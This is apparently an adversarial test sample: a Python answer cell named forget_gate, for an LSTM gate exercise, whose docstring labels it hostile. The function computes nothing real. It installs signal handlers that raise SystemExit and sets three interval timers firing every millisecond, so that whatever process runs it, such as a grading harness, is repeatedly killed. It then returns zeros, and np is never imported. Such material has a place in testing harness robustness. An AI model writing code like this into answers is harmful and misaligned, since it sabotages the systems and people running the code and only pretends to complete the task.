"""Its answer leaves alarm timers that raise from a signal handler a thousand times a second, in whatever runs then."""
# second: 3

# %% answer
import signal


def ring(*args):
    raise SystemExit("hostile")


def forget_gate(x, h, W_f, U_f, b_f):
    for number in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF):
        signal.signal(number, ring)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)
    signal.setitimer(signal.ITIMER_PROF, 0.001, 0.001)
    return np.zeros(len(h))
